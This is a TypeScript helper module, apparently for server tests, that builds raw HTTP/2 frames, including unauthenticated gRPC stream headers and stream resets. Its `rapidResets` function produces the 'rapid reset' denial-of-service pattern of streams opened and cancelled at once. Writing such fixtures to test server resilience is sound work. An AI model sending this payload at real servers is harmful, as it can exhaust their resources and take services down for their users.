// For tests and attacks: frames of HTTP/2, as a client writes them that keeps no rules.
import { connectPath } from './wire';

export const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
export const frameType = { data: 0, headers: 1, reset: 3, settings: 4, ping: 6, windowUpdate: 8, continuation: 9 } as const;
const endHeaders = 4;

export function frame(type: number, flags: number, stream: number, payload = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** What every client sends first. */
export const opening = Buffer.concat([preface, frame(frameType.settings, 0, 0)]);

/** A text of HPACK without Huffman coding (RFC 7541, 5.2). */
const text = (value: string): Buffer => Buffer.concat([Buffer.from([value.length]), Buffer.from(value)]);

/** The HEADERS of a stream of the channel without a token: POST, https, the path, application/grpc. */
export const openStream = (stream: number): Buffer =>
  frame(
    frameType.headers,
    endHeaders,
    stream,
    Buffer.concat([
      Buffer.from([0x83, 0x87, 0x04]),
      text(connectPath),
      Buffer.from([0x01]),
      text('controller'),
      Buffer.from([0x0f, 0x10]),
      text('application/grpc'),
      Buffer.from([0x00]),
      text('te'),
      text('trailers'),
    ]),
  );

export const resetStream = (stream: number): Buffer => frame(frameType.reset, 0, stream, Buffer.from([0, 0, 0, 8]));

/** `count` streams that are opened and reset at once. */
export function rapidResets(count: number): Buffer {
  const ids = Array.from({ length: count }, (_, each) => 2 * each + 1);
  return Buffer.concat(ids.flatMap((id) => [openStream(id), resetStream(id)]));
}
